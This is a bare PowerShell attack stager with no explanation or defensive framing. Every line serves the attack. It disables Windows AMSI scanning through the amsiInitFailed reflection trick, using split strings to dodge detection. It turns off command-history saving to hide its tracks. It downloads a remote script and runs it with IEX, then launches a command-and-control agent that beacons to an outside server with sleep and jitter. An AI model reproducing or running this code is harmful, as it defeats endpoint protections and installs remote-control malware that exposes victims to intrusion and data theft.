$a = 'System.Management.Automation.A' + 'msiUtils'
$f = 'amsiIn' + 'itFailed'
$t = [Ref].Assembly.GetType($a)
if ($t) { $t.GetField($f, 'NonPublic,Static').SetValue($null, $true) }
Set-PSReadlineOption -HistorySaveStyle SaveNothing -ErrorAction SilentlyContinue
$u = 'https://raw-cdn.invalid/p/Invoke-Agent.ps1'
$code = (New-Object Net.WebClient).DownloadString($u)
IEX $code
Invoke-Agent -Server 'https://203.0.113.9:8443' -Sleep 15 -Jitter 0.3
